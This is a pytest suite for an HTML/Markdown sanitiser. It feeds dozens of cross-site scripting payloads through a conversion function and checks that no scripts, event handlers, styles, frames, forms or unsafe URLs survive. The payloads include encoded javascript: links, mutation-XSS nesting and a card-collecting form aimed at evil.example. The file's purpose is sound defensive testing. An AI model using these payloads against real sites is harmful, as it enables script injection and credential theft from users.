"""Hostile input: nothing executable or styled survives conversion, whatever the format."""

from __future__ import annotations

import random
import re

import pytest
from bs4 import BeautifulSoup
from bs4.element import Tag

from ingest.convert import LinkBuilder, to_html
from ingest.convert.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from ingest.document import BodyFormat

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="steal()" onmouseover="steal()">hover</p>',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">b</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">d</a>',
    '<a href=" javascript:alert(1)">e</a>',
    '<a href="\tjava\nscript:alert(1)">f</a>',
    '<a href="java&#x09;script:alert(1)">g</a>',
    '<a href="vbscript:msgbox(1)">h</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">i</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="pixel">',
    '<img src="DATA:image/png;base64,AAAA">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
    '<input type="text" value="x" onfocus="alert(1)" autofocus>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<base href="javascript:alert(1)//">',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example/" target="_blank" onclick="x()" style="color:red">ok</a>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<table background="javascript:alert(1)"><tr><td onclick="x()">c</td></tr></table>',
]

_SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


def _assert_safe(html: str) -> None:
    lowered = html.lower()
    for needle in ("<script", "<style", "<iframe", "<form", "<svg", "<object", "<embed", "<input", "<button"):
        assert needle not in lowered
    soup = BeautifulSoup(html, "lxml")
    for element in soup.find_all(True):
        assert isinstance(element, Tag)
        if element.name in ("html", "body"):
            continue
        assert element.name in ALLOWED_TAGS
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on")
            assert name in ALLOWED_ATTRIBUTES.get(element.name, set())
            if name in ("href", "src"):
                match = _SCHEME.match(str(value))
                assert match is None or match.group(1).lower() in _SAFE_SCHEMES, value


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("fmt", [BodyFormat.HTML, BodyFormat.MARKDOWN])
@pytest.mark.parametrize("template", ["https://docs.example.com/{path}", None])
def test_hostile_input_leaves_nothing_executable(payload: str, fmt: BodyFormat, template: str | None) -> None:
    """No script, handler, style, frame, form or unsafe URL survives, in HTML or in Markdown."""
    html = to_html(payload, fmt, path="a/b.md", title=None, links=LinkBuilder(template))
    _assert_safe(html)
    assert "javascript:" not in html.lower()
    assert "data:" not in html.lower()


@pytest.mark.parametrize(
    "payload",
    [
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "![x](data:image/png;base64,AAAA)",
        "<javascript:alert(1)>",
        "[x][ref]\n\n[ref]: vbscript:msgbox(1)",
        '```"><script>alert(1)</script>\nx\n```',
        '[t](https://ok.example "t\\" onmouseover=\\"x")',
    ],
)
def test_hostile_markdown_links_are_not_links(payload: str) -> None:
    """Markdown links with unsafe schemes never become an href or src."""
    html = to_html(payload, BodyFormat.MARKDOWN, path="a.md", title=None, links=LinkBuilder(None))
    _assert_safe(html)


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("<script>alert(1)</script><p>ok</p>", "<p>ok</p>"),
        ('<p onclick="x()" style="color:red" class="lead" id="p1">hi</p>', "<p>hi</p>"),
        (
            '<p><img src="https://e.example/a.png" onerror="alert(1)" alt="a"></p>',
            '<p><img alt="a" src="https://e.example/a.png"></p>',
        ),
        ('<p><a href="JaVaScRiPt:alert(1)">x</a></p>', "<p>x</p>"),
        ('<p><img src="data:image/png;base64,AAAA" alt="pixel"></p>', "<p>pixel</p>"),
        ('<form><input name="a"><button>Go</button></form><p>after</p>', "<p>after</p>"),
        (
            '<p><a href="https://ok.example/" target="_blank" rel="opener">ok</a></p>',
            '<p><a href="https://ok.example/">ok</a></p>',
        ),
        (
            '<p><code class="language-python hljs evil">x</code></p>',
            '<p><code class="language-python">x</code></p>',
        ),
        ('<p><code class="language-&quot;onclick">x</code></p>', "<p><code>x</code></p>"),
        (
            '<table><tr><td colspan="2" rowspan="3" width="9">c</td></tr></table>',
            '<table><tbody><tr><td colspan="2" rowspan="3">c</td></tr></tbody></table>',
        ),
    ],
)
def test_sanitised_html_exactly(payload: str, expected: str) -> None:
    """What is left of hostile or noisy HTML is exactly the allowed part."""
    assert to_html(payload, BodyFormat.HTML, path="a.html", title=None, links=LinkBuilder(None)) == expected


_PIECES = [
    "<div>", "</div>", "<p>", "</p>", "text", "\n", "\n\n", '<a href="x.md">', "</a>",
    '<img src="../i.png" alt="a">',
    "<input type=checkbox>", "<script>", "</script>", "<!--", "-->", "<table><tr><td>", "</table>", "# T",
    "!!! note", "    ", '=== "t"', "> [!NOTE]", "- [ ] ", "[^1]", "[^1]: x", "```", "<pre>", "</pre>", "<br>",
    "&amp;", "\x00", "\r", "<svg onload=alert(1)>", "<nav>", '<a href="javascript:alert(1)">', "<style>",
    "[l](javascript:x)", "![i](data:x)", "<", ">", '"', "<body onload=x()>", "<?xml ?>", "<![CDATA[", "]]>",
    "<iframe>", "<form>", "é", "\u2028", "<ul><li>", "Term\n: def", "|a|b|\n|-|-|\n|c|d|",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(4))
def test_random_mixtures_are_safe_and_stable(seed: int) -> None:
    """Random mixtures of markup fragments convert without error, safely, and the same twice."""
    rng = random.Random(seed)
    for index in range(60):
        body = "".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 40)))
        for fmt in (BodyFormat.MARKDOWN, BodyFormat.HTML, BodyFormat.TEXT):
            links = LinkBuilder("https://docs.example.com/{path}" if index % 2 else None)
            first = to_html(body, fmt, path="x/y.md", title="T", links=links)
            assert to_html(body, fmt, path="x/y.md", title="T", links=links) == first
            _assert_safe(first)
